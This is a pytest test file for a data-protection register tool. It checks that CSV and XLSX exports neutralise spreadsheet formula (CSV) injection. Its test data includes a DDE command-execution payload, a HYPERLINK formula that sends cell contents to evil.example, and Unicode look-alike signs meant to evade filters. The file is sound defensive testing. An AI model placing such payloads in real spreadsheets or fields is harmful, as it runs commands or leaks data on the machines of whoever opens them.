"""Nothing garde writes to CSV or XLSX can run as a formula (CSV injection, OWASP).

A hostile register (``tests/data/hostile/register.yaml``) and hostile values in the
business databases must reach every spreadsheet as text a DPO can read: a leading
``'`` before what would run, numbers left as numbers.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from garde.consent.importing import import_csv
from garde.documents import export_register
from garde.documents.spreadsheet import CsvWriter, from_spreadsheet_text, spreadsheet_cell, spreadsheet_text
from garde.documents.xlsx import append_row
from garde.register import load_register
from garde.store import connect, migrate
from garde.subjects import find_subject

HOSTILE = Path(__file__).parent / "data" / "hostile" / "register.yaml"
SRC = Path(__file__).resolve().parents[1] / "src" / "garde"
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
PAYLOADS = ["=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3", "=1+1", "  =1+1", "\n=1+1", "\t=1+1",
            "\tplain", "\rplain", '=HYPERLINK("http://evil.example/?"&A1,"x")', "-", "'=1+1", "''@x"]


def runs_in_a_spreadsheet(text: str) -> bool:
    """What Excel or LibreOffice would take for a formula (leading blanks trimmed, as some do)."""
    if text[:1] in ("\t", "\r"):
        return True
    return text.lstrip()[:1] in set("=+-@") and not NUMBER.fullmatch(text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_quoted_and_come_back(payload: str) -> None:
    written = spreadsheet_text(payload)
    assert written == "'" + payload and not runs_in_a_spreadsheet(written)
    assert from_spreadsheet_text(written) == payload


@pytest.mark.parametrize("value", ["-12.50", "+33612345678", "-5", "1e-3", "Ana Lima", "", "'quoted", "a=b"])
def test_numbers_and_plain_text_are_left_as_they_are(value: str) -> None:
    assert spreadsheet_text(value) == value == from_spreadsheet_text(value)


@given(st.text())
def test_any_text_is_inert_and_round_trips(text: str) -> None:
    written = spreadsheet_text(text)
    assert written in (text, "'" + text)
    assert not runs_in_a_spreadsheet(written)
    assert from_spreadsheet_text(written) == text


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none(), st.booleans()))
def test_values_that_are_not_text_are_untouched(value: Any) -> None:
    assert spreadsheet_cell(value) is value


def test_register_csv_carries_no_formula() -> None:
    rows = list(csv.reader(io.StringIO(export_register(load_register(HOSTILE), "csv", "en").decode())))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if runs_in_a_spreadsheet(cell)]
    assert "'=cmd|' /C calc'!A0" in cells  # the controller's name, readable
    purposes = next(cell for cell in cells if "@SUM" in cell)
    assert purposes.startswith("'-2+3\n@SUM(1+1)")


def test_register_xlsx_stores_text_never_formulas(tmp_path: Path) -> None:
    path = tmp_path / "register.xlsx"
    path.write_bytes(export_register(load_register(HOSTILE), "xlsx", "en"))
    workbook = load_workbook(path)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
             if cell.value is not None]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if runs_in_a_spreadsheet(text)]
    assert "'=cmd|' /C calc'!A0" in {cell.value for cell in cells}


def test_xlsx_keeps_numbers_numeric_and_text_as_text() -> None:
    sheet = Workbook().active
    assert sheet is not None
    append_row(sheet, [-5, 3.25, "-5", "-2+3", "=1+1", None])
    row = sheet[1]
    assert [cell.data_type for cell in row[:5]] == ["n", "n", "s", "s", "s"]
    assert [cell.value for cell in row[:5]] == [-5, 3.25, "-5", "'-2+3", "'=1+1"]


def test_a_quoted_csv_reads_back_into_the_consent_ledger(tmp_path: Path) -> None:
    """garde's own consent export (the demo's) and the import give back the same address."""
    path = tmp_path / "consents.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = CsvWriter(handle)
        writer.writerow(["id", "email", "activity", "channel", "action", "at"])
        writer.writerow(["1", "-dash@example.org", "newsletter", "email", "given", "2025-01-01T00:00:00Z"])
    assert "'-dash@example.org" in path.read_text(encoding="utf-8")
    engine = connect(f"sqlite:///{tmp_path / 'garde.db'}", create=True)
    migrate(engine)
    try:
        assert import_csv(engine, path, source="shop").added == 1
        with engine.connect() as conn:
            assert find_subject(conn, {"email": "-dash@example.org"}) is not None
    finally:
        engine.dispose()


def test_every_csv_and_xlsx_writer_goes_through_the_spreadsheet_cells() -> None:
    """A new writer cannot forget: csv.writer and openpyxl are used in one place each."""
    writers = {str(path.relative_to(SRC)) for path in SRC.rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))}
    workbooks = {str(path.relative_to(SRC)) for path in SRC.rglob("*.py")
                 if "openpyxl" in path.read_text(encoding="utf-8")}
    assert writers == {"documents/spreadsheet.py"}
    assert workbooks == {"documents/xlsx.py", "documents/formats.py"}


# The signs, and every character Unicode folds into one (NFKC), listed by hand from its tables:
# fullwidth, small, superscript and subscript forms, the Hebrew alternative plus, ⩵ and ⩶. A
# spreadsheet or input method folding widths (East Asian ones do) would read them as the ASCII
# signs. Then what may stand before a sign unseen: Unicode spaces and zero-width format characters.
LOOK_ALIKE_SIGNS = ("=+-@" "\uff1d\uff0b\uff0d\uff20" "\ufe66\ufe62\ufe63\ufe6b"
                    "\u207c\u207a\u208c\u208a\ufb29\u2a75\u2a76")
BLANKS = " \u00a0\u2002\u2003\u2009\u3000\u200b\u200c\u200d\u2060\ufeff\n\x0b\x0c"


@given(st.text(alphabet=BLANKS, max_size=4), st.sampled_from(LOOK_ALIKE_SIGNS), st.text(max_size=20))
def test_a_look_alike_sign_behind_any_blank_is_quoted_and_back(blanks: str, sign: str, rest: str) -> None:
    text = blanks + sign + rest
    written = spreadsheet_text(text)
    if NUMBER.fullmatch(text):  # a plain ASCII number (-12.5) is a number, not a formula
        assert written == text
    else:
        assert written == "'" + text, repr(text)
    assert from_spreadsheet_text(written) == text


def _seen(character: str) -> bool:
    return not character.isspace() and unicodedata.category(character) != "Cf"


@given(st.text(alphabet=BLANKS, max_size=3), st.characters().filter(_seen), st.text(max_size=12))
def test_a_cell_is_quoted_exactly_when_its_first_seen_character_is_a_sign(blanks: str, first: str,
                                                                            rest: str) -> None:
    """Over any leading character: the signs and their look-alikes, nothing else (a cell starting
    with U+2212 MINUS SIGN, a letter or a digit is left as written)."""
    text = blanks + first + rest
    quoted = first in LOOK_ALIKE_SIGNS and not NUMBER.fullmatch(text)
    assert spreadsheet_text(text) == ("'" + text if quoted else text), repr(text)
    assert from_spreadsheet_text(spreadsheet_text(text)) == text


@pytest.mark.parametrize("sign", ["\ufe66", "\ufe62", "\ufe63", "\ufe6b", "\u207a", "\u208c"])
def test_the_small_and_raised_signs_are_quoted_as_the_fullwidth_ones(sign: str) -> None:
    assert spreadsheet_text(sign + "HYPERLINK(\"http://evil.example/\";1)")[:1] == "'"
    assert spreadsheet_text("\u200b " + sign + "1+1")[:1] == "'"
